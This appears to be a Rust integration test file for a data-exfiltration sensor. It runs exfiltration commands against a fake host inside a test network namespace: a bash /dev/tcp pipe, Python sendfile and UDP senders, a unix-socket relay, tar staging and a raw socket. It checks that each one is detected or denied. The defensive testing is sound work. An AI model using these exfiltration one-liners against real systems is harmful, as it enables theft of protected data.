@@ -1,0 +1,385 @@
+//! Exfiltration: protected data followed from the file through pipes and staging copies to
+//! the network, reported as `detection.*` and refused with EPERM when the policy says deny.
+//!
+//! The fake external host is a network namespace the test creates, joined by a veth pair
+//! with test addresses (10.200.N.1 here, 10.200.N.2 inside); nothing else is a target. The
+//! egress programs attach only to a child cgroup the test creates, and the senders run in
+//! it. Everything (namespace, link, cgroup, listeners) is removed on drop, also on failure.
+
+use std::{
+    fs,
+    path::{Path, PathBuf},
+    process::{Command, Stdio},
+    sync::atomic::{AtomicU32, Ordering},
+    thread,
+    time::Duration,
+};
+
+use mnsensor_tests::{ChildGuard, Sensor, TempDir, get_str, get_u64, is, path_str, scaled, show, test_pid};
+use serde_json::Value;
+
+static NEXT: AtomicU32 = AtomicU32::new(0);
+
+/// A cgroup v2 child the senders run in.
+struct Cgroup {
+    path: PathBuf,
+}
+
+impl Cgroup {
+    fn new() -> Self {
+        let root = if Path::new("/sys/fs/cgroup/cgroup.procs").exists() {
+            PathBuf::from("/sys/fs/cgroup")
+        } else {
+            PathBuf::from("/sys/fs/cgroup/unified")
+        };
+        let path =
+            root.join(format!("mnsensor-test.{}.{}", test_pid(), NEXT.fetch_add(1, Ordering::Relaxed)));
+        fs::create_dir(&path).unwrap_or_else(|e| panic!("mkdir {}: {e}", path.display()));
+        Self { path }
+    }
+
+    /// Runs `script` with sh inside this cgroup and returns its exit code. Its output goes
+    /// to /dev/null: reading what a tainted process wrote would taint this test process (and
+    /// every later child of it), which is the point of the sensor.
+    fn run(&self, script: &str) -> i32 {
+        let procs = self.path.join("cgroup.procs");
+        let status = Command::new("sh")
+            .arg("-c")
+            .arg(format!("echo $$ > {} && {script}", path_str(&procs)))
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .unwrap_or_else(|e| panic!("running {script}: {e}"));
+        eprintln!("{script}: {status:?}");
+        status.code().unwrap_or(-1)
+    }
+}
+
+impl Drop for Cgroup {
+    fn drop(&mut self) {
+        for _ in 0..50 {
+            if fs::remove_dir(&self.path).is_ok() {
+                return;
+            }
+            thread::sleep(Duration::from_millis(100));
+        }
+        eprintln!("warning: cgroup {} not removed", self.path.display());
+    }
+}
+
+/// The fake external host: a namespace, a veth pair and a TCP sink listening on `ports`.
+struct FakeHost {
+    ns: String,
+    link: String,
+    ip: String,
+    /// One file per port: the byte count of each connection received, one per line.
+    dir: TempDir,
+    sinks: Vec<ChildGuard>,
+}
+
+/// Accepts connections forever; appends each connection's byte count to `<dir>/<port>`.
+const SINK: &str = r#"
+import socket, sys, threading
+ip, port, out = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((ip, port)); s.listen(16)
+open(out + ".ready", "w").close()
+def serve(c):
+    n = 0
+    while True:
+        b = c.recv(65536)
+        if not b: break
+        n += len(b)
+    with open(out, "a") as f: f.write(f"{n}\n")
+while True:
+    c, _ = s.accept()
+    threading.Thread(target=serve, args=(c,), daemon=True).start()
+"#;
+
+fn ip(args: &[&str]) {
+    let st = Command::new("ip").args(args).status().unwrap_or_else(|e| panic!("ip {args:?}: {e}"));
+    assert!(st.success(), "ip {args:?}: {st}");
+}
+
+impl FakeHost {
+    fn new(ports: &[u16]) -> Self {
+        let n = (test_pid() + NEXT.fetch_add(1, Ordering::Relaxed)) % 250 + 1;
+        let ns = format!("mnsx{}-{n}", test_pid());
+        let link = format!("mnsx{n}h");
+        let host = Self {
+            ns: ns.clone(),
+            link: link.clone(),
+            ip: format!("10.200.{n}.2"),
+            dir: TempDir::new("fakehost"),
+            sinks: Vec::new(),
+        };
+        ip(&["netns", "add", &ns]);
+        ip(&["link", "add", &link, "type", "veth", "peer", "name", "mnsxpeer", "netns", &ns]);
+        ip(&["addr", "add", &format!("10.200.{n}.1/24"), "dev", &link]);
+        ip(&["link", "set", &link, "up"]);
+        ip(&["-n", &ns, "addr", "add", &format!("{}/24", host.ip), "dev", "mnsxpeer"]);
+        ip(&["-n", &ns, "link", "set", "mnsxpeer", "up"]);
+        let mut host = host;
+        for port in ports {
+            let out = host.dir.join(port.to_string());
+            let mut cmd = Command::new("ip");
+            cmd.args(["netns", "exec", &ns, "python3", "-c", SINK, &host.ip, &port.to_string()])
+                .arg(&out)
+                .stdin(Stdio::null());
+            host.sinks.push(ChildGuard::spawn(&mut cmd));
+            let ready = PathBuf::from(format!("{}.ready", path_str(&out)));
+            for _ in 0..100 {
+                if ready.exists() {
+                    break;
+                }
+                thread::sleep(Duration::from_millis(50));
+            }
+            assert!(ready.exists(), "sink on port {port} did not start");
+        }
+        host
+    }
+
+    /// Bytes received per connection on `port`, once `n` connections have ended (or after a
+    /// few seconds).
+    fn received_n(&self, port: u16, n: usize) -> Vec<u64> {
+        for _ in 0..100 {
+            let got = self.received(port);
+            if got.len() >= n {
+                return got;
+            }
+            thread::sleep(Duration::from_millis(50));
+        }
+        self.received(port)
+    }
+
+    /// Bytes received per connection on `port` so far.
+    fn received(&self, port: u16) -> Vec<u64> {
+        fs::read_to_string(self.dir.join(port.to_string()))
+            .unwrap_or_default()
+            .lines()
+            .filter_map(|l| l.parse().ok())
+            .collect()
+    }
+}
+
+impl Drop for FakeHost {
+    fn drop(&mut self) {
+        self.sinks.clear();
+        let _ = Command::new("ip").args(["link", "del", &self.link]).status();
+        let _ = Command::new("ip").args(["netns", "del", &self.ns]).status();
+    }
+}
+
+/// A protected tree with `files` files of `size` bytes, an unprotected directory, and a
+/// sensor running `policy` (its `egress:` section) with the egress programs on `cgroup`.
+struct Setup {
+    protected: TempDir,
+    outside: TempDir,
+    sensor: Sensor,
+    // Dropped after the sensor (detached first).
+    _conf: TempDir,
+}
+
+const SIZE: usize = 40_000;
+
+fn setup(cgroup: &Cgroup, files: usize, egress: &str) -> Setup {
+    let protected = TempDir::new("protected");
+    for i in 0..files {
+        protected.write(format!("mynumber-{i}.csv"), vec![b'7'; SIZE]);
+    }
+    let outside = TempDir::new("outside");
+    outside.write("public.txt", vec![b'p'; SIZE]);
+    let conf = TempDir::new("conf");
+    let policy = conf.write(
+        "policy.yaml",
+        format!(
+            "apiVersion: mnsensor/v1\nkind: AccessPolicy\nmetadata: {{name: exfil}}\nspec:\n  mode: audit\n  protect: [{{path: {}}}]\n  default: {{action: audit, severity: low}}\n  egress:\n{egress}",
+            path_str(protected.path())
+        ),
+    );
+    let config = conf.write("config.yaml", format!("egress_cgroup: {}\n", path_str(&cgroup.path)));
+    let sensor = Sensor::start(&["--config", path_str(&config), "--policy", path_str(&policy)]);
+    Setup { protected, outside, sensor, _conf: conf }
+}
+
+fn send_pipe(cg: &Cgroup, source: &Path, host: &FakeHost, port: u16) {
+    let code =
+        cg.run(&format!("cat {} | bash -c 'exec 3<>/dev/tcp/{}/{port}; cat >&3'", path_str(source), host.ip));
+    assert_eq!(code, 0, "pipe send to port {port}");
+}
+
+/// `python3 -c PY_SENDFILE FILE HOST PORT`: sendfile(2) of the whole file over TCP.
+const PY_SENDFILE: &str = "import socket, sys\nc = socket.create_connection((sys.argv[2], int(sys.argv[3])))\nc.sendfile(open(sys.argv[1], 'rb')); c.close()";
+/// `python3 -c PY_UDP FILE HOST PORT`: three 1000-byte datagrams with sendto on an
+/// unconnected socket.
+const PY_UDP: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): s.sendto(data[:1000], (sys.argv[2], int(sys.argv[3])))";
+
+/// `python3 relay.py SOCK HOST PORT`: accepts one unix-socket connection, reads it to the
+/// end with recv, and sends everything to HOST:PORT.
+const PY_RELAY: &str = "import socket, sys
+u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[1]); u.listen(1)
+c, _ = u.accept()
+data = b''
+while True:
+    b = c.recv(65536)
+    if not b: break
+    data += b
+o = socket.create_connection((sys.argv[2], int(sys.argv[3]))); o.sendall(data); o.close()
+";
+/// `python3 client.py SOCK`: sends its stdin over a unix socket.
+const PY_UNIX_CLIENT: &str = "import socket, sys
+u = socket.socket(socket.AF_UNIX); u.connect(sys.argv[1]); u.sendall(sys.stdin.buffer.read()); u.close()
+";
+
+fn exfil_to(port: u16) -> impl Fn(&Value) -> bool {
+    move |e| {
+        is(e, "detection.exfiltration")
+            && e.get("destination.port").and_then(Value::as_u64) == Some(u64::from(port))
+    }
+}
+
+#[test]
+fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
+    let cg = Cgroup::new();
+    let host = FakeHost::new(&[9101, 9102, 9103, 9104, 9106]);
+    let mut s = setup(&cg, 1, "    action: alert\n");
+    let file = s.protected.join("mynumber-0.csv");
+
+    // Untainted: a public file through the same pipe.
+    send_pipe(&cg, &s.outside.join("public.txt"), &host, 9101);
+    // Tainted: cat reads the protected file, the pipe carries the taint to the sender.
+    send_pipe(&cg, &file, &host, 9102);
+    assert_eq!(host.received_n(9102, 1), vec![SIZE as u64]);
+    let d = s.sensor.wait_for("exfiltration through the pipe", exfil_to(9102));
+    assert_eq!(get_str(&d, "destination.address"), host.ip, "{}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
+    assert_eq!(get_str(&d, "mnsensor.detection.action"), "alert");
+    assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 1, "one pipe between file and sender: {}", show(&d));
+
+    // Staging: a copy outside the protected tree, sent later by another process.
+    let copy = s.outside.join("copy.csv");
+    let code = cg.run(&format!("cp {} {}", path_str(&file), path_str(&copy)));
+    assert_eq!(code, 0);
+    let st = s.sensor.wait_for("staging copy", |e| is(e, "detection.staging"));
+    assert!(show(&st).contains("copy.csv"), "derived file named: {}", show(&st));
+    let code = cg.run(&format!("bash -c 'exec 3<>/dev/tcp/{}/9103; cat {} >&3'", host.ip, path_str(&copy)));
+    assert_eq!(code, 0);
+    let d = s.sensor.wait_for("exfiltration of the staging copy", exfil_to(9103));
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
+
+    // sendfile straight from the protected file to the socket, and unconnected UDP.
+    let code = cg.run(&format!("python3 -c \"{PY_SENDFILE}\" {} {} 9104", path_str(&file), host.ip));
+    assert_eq!(code, 0);
+    let d = s.sensor.wait_for("exfiltration by sendfile", exfil_to(9104));
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 0, "{}", show(&d));
+    let code = cg.run(&format!("python3 -c \"{PY_UDP}\" {} {} 9105", path_str(&file), host.ip));
+    assert_eq!(code, 0);
+    let d = s.sensor.wait_for("exfiltration over unconnected UDP", exfil_to(9105));
+    assert_eq!(get_str(&d, "network.transport"), "udp", "{}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), 3 * 1000, "{}", show(&d));
+
+    // A relay: the tainted client hands the data over a unix socket to another process,
+    // which sends it out.
+    let relay = s.outside.write("relay.py", PY_RELAY);
+    let client = s.outside.write("client.py", PY_UNIX_CLIENT);
+    let sock = s.outside.join("relay.sock");
+    let code = cg.run(&format!(
+        "python3 {relay} {sock} {ip} 9106 & while [ ! -S {sock} ]; do sleep 0.05; done; cat {file} | python3 {client} {sock}; wait",
+        relay = path_str(&relay),
+        client = path_str(&client),
+        sock = path_str(&sock),
+        ip = host.ip,
+        file = path_str(&file),
+    ));
+    assert_eq!(code, 0);
+    assert_eq!(host.received_n(9106, 1), vec![SIZE as u64]);
+    let d = s.sensor.wait_for("exfiltration through a unix-socket relay", exfil_to(9106));
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 2, "pipe, then unix socket: {}", show(&d));
+    assert_eq!(get_str(&d, "mnsensor.taint.origin.name"), "cat", "{}", show(&d));
+
+    // An archiver reading protected files is staging in itself (and its archive is a
+    // derived file).
+    let archive = s.outside.join("out.tgz");
+    let code = cg.run(&format!("tar czf {} -C {} .", path_str(&archive), path_str(s.protected.path())));
+    assert_eq!(code, 0);
+    let st = s.sensor.wait_for("archiver staging", |e| {
+        is(e, "detection.staging") && e.get("mnsensor.process.comm").and_then(Value::as_str) == Some("tar")
+    });
+    assert!(get_u64(&st, "mnsensor.taint.bytes_read") >= SIZE as u64, "{}", show(&st));
+
+    // A raw socket opened by a tainted process.
+    let code = cg.run(&format!(
+        "python3 -c \"import socket, sys; open(sys.argv[1], 'rb').read(); socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\" {}",
+        path_str(&file)
+    ));
+    assert_eq!(code, 0);
+    s.sensor.wait_for("raw socket of a tainted process", |e| is(e, "egress.raw_socket"));
+
+    // By now the untainted send has long been polled.
+    thread::sleep(scaled(Duration::from_secs(2)));
+    s.sensor.assert_none("detection for the untainted sender", exfil_to(9101));
+    s.sensor.stop();
+}
+
+#[test]
+fn deny_refuses_a_tainted_connect_with_eperm_but_not_to_an_allowed_destination() {
+    let cg = Cgroup::new();
+    let host = FakeHost::new(&[9201, 9202]);
+    let egress = format!(
+        "    action: deny\n    allow:\n      - {{network: {}/32, ports: [9202]}}\n",
+        // The address is only known once the host exists.
+        host.ip
+    );
+    let mut s = setup(&cg, 1, &egress);
+    let file = s.protected.join("mynumber-0.csv");
+    // Exit 0: sent; 13: the connect failed with EPERM.
+    let client = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ntry:\n    c = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5)\n    c.sendall(data); c.close()\nexcept PermissionError:\n    sys.exit(13)";
+    let run = |source: &Path, port: u16| {
+        cg.run(&format!("python3 -c \"{client}\" {} {} {port}", path_str(source), host.ip))
+    };
+    assert_eq!(run(&file, 9201), 13, "connect to a destination not allowed");
+    assert_eq!(run(&file, 9202), 0, "connect to the allowed destination");
+    // The same destination written as an IPv4-mapped IPv6 address is the same destination.
+    let mapped = format!("::ffff:{}", host.ip);
+    let code = cg.run(&format!("python3 -c \"{client}\" {} {mapped} 9203", path_str(&file)));
+    assert_eq!(code, 13, "connect to an IPv4-mapped address not allowed");
+    let d = s.sensor.wait_for("refused IPv4-mapped connect", exfil_to(9203));
+    assert_eq!(get_str(&d, "destination.address"), host.ip, "normalised to IPv4: {}", show(&d));
+    assert!(host.received(9201).is_empty());
+    let d = s.sensor.wait_for("refused exfiltration", exfil_to(9201));
+    assert_eq!(get_str(&d, "mnsensor.detection.action"), "deny", "{}", show(&d));
+    assert_eq!(get_str(&d, "destination.address"), host.ip);
+    // An untainted process is never refused.
+    assert_eq!(run(&s.outside.join("public.txt"), 9201), 0, "untainted connect");
+    assert_eq!(host.received_n(9201, 1), vec![SIZE as u64]);
+    thread::sleep(scaled(Duration::from_secs(2)));
+    s.sensor.assert_none("detection for the allowed destination", exfil_to(9202));
+    s.sensor.stop();
+}
+
+#[test]
+fn bulk_read_above_threshold_is_detected_once() {
+    let cg = Cgroup::new();
+    let mut s = setup(&cg, 8, "    bulk_read: {files: 5}\n");
+    let read = |range: std::ops::Range<usize>| {
+        for i in range {
+            let code = cg.run(&format!(
+                "cat {} > /dev/null",
+                path_str(&s.protected.join(format!("mynumber-{i}.csv")))
+            ));
+            assert_eq!(code, 0);
+        }
+    };
+    read(0..4);
+    thread::sleep(scaled(Duration::from_secs(3)));
+    s.sensor.assert_none("bulk read below the threshold", |e| is(e, "detection.bulk_read"));
+    read(4..8);
+    let d = s.sensor.wait_for("bulk read", |e| is(e, "detection.bulk_read"));
+    assert!(get_u64(&d, "mnsensor.taint.files_read") >= 5, "{}", show(&d));
+    thread::sleep(scaled(Duration::from_secs(2)));
+    let n = s.sensor.matching(|e| is(e, "detection.bulk_read")).len();
+    assert_eq!(n, 1, "one detection per episode");
+    s.sensor.stop();
+}
